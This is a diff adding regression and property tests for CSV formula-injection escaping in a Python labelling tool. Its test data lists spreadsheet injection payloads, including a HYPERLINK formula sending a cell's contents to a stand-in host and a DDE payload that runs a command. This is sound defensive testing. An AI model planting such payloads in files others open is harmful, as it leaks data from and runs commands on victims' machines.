@@ -6,6 +6,8 @@ import json
 import numpy as np
 import pytest
 import torch
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from sklearn.datasets import load_wine
 
 from skralif.cli import main
@@ -271,3 +273,44 @@ def test_the_project_must_stay_the_same(tmp_path):
     state.write_text("[]")
     with pytest.raises(ValueError, match="is not a skralif state file"):
         run(data)
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A137)', "=cmd|' /C calc'!A0", "+1+2",
+            "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=quoted"]
+
+
+def test_to_label_csv_writes_no_formula_and_reads_back_the_users_values(tmp_path):
+    """Issue 22: ids, notes and column names from the user's file were written verbatim,
+    so an annotator's spreadsheet ran them as formulas."""
+    from skralif._csv import FORMULA_STARTS, from_spreadsheet_safe
+
+    data = tmp_path / "wine.csv"
+    notes = {i: FORMULAS[i % len(FORMULAS)] for i in range(len(X_WINE))}
+    with open(data, "w", newline="") as handle:
+        out = csv.writer(handle)
+        out.writerow(["name", "=note", *[f"f{j}" for j in range(13)], "label"])
+        for i in range(len(X_WINE)):
+            out.writerow([f"{FORMULAS[i % len(FORMULAS)]}#{i}", notes[i], *X_WINE[i], ""])
+    report = query_file(data, "label", id_column="name", ignore=["=note"], n=20, epochs=5)
+    with open(report.to_label, newline="") as handle:
+        rows = list(csv.reader(handle))
+    for cell in (c for row in rows for c in row):
+        assert not cell.startswith(FORMULA_STARTS) or float(cell) == float(cell), cell
+    header = [from_spreadsheet_safe(c) for c in rows[0]]
+    assert header[0] == "name" and "=note" in header
+    for row in rows[1:]:
+        values = dict(zip(header, (from_spreadsheet_safe(c) for c in row), strict=True))
+        i = int(values["name"].rsplit("#", 1)[1])
+        assert values["name"] == f"{FORMULAS[i % len(FORMULAS)]}#{i}".strip()  # ids: stripped
+        assert values["=note"] == notes[i]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text())
+def test_spreadsheet_safe_cells_are_text_and_exactly_reversible(text):
+    from skralif._csv import FORMULA_STARTS, from_spreadsheet_safe, spreadsheet_safe
+
+    safe = spreadsheet_safe(text)
+    assert from_spreadsheet_safe(safe) == text
+    if safe.startswith(FORMULA_STARTS):
+        float(safe)  # only plain numbers such as -1.5 keep their sign in front
